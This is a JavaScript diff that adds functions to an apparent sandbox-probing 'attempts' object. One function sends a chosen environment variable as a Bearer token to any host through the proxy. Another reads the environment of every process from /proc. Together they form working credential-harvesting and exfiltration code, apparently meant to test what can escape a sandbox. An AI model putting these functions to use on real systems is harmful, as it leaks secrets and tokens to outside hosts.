@@ -49,6 +49,43 @@ const attempts = {
     const answer = await talk({ host: proxy.hostname, port: Number(proxy.port) }, first, says);
     return answer.includes(says) ? says : null;
   },
+  /** What a server answers that is sent a variable as a token, over TLS through the proxy. */
+  send({ host, port, variable }) {
+    const proxy = new URL(process.env.HTTP_PROXY ?? "");
+    const connect = {
+      host: proxy.hostname,
+      port: proxy.port,
+      method: "CONNECT",
+      path: `${host}:${port}`,
+      agent: false,
+    };
+    return new Promise((resolve, reject) => {
+      const tunnel = require("node:http").request(connect);
+      tunnel.setTimeout(limitMs, () => reject(new Error("timeout")));
+      tunnel.once("error", reject);
+      tunnel.once("connect", (_response, socket) => {
+        let answer = "";
+        const secure = require("node:tls").connect({ socket, servername: host }, () => {
+          const head = `GET / HTTP/1.1\r\nHost: ${host}:${port}\r\nConnection: close\r\n`;
+          secure.write(`${head}Authorization: Bearer ${process.env[variable]}\r\n\r\n`);
+        });
+        secure.on("data", (bytes) => (answer += bytes));
+        secure.once("error", (error) => resolve(`${answer} ${error.message}`));
+        secure.once("close", () => resolve(answer));
+      });
+      tunnel.end();
+    });
+  },
+  environments() {
+    const all = fs.readdirSync("/proc").map((pid) => {
+      try {
+        return /^\d+$/.test(pid) ? fs.readFileSync(`/proc/${pid}/environ`, "latin1") : "";
+      } catch {
+        return "";
+      }
+    });
+    return all.join(" ").slice(0, 100_000);
+  },
   async resolve({ host }) {
     return (await require("node:dns").promises.lookup(host)).address;
   },
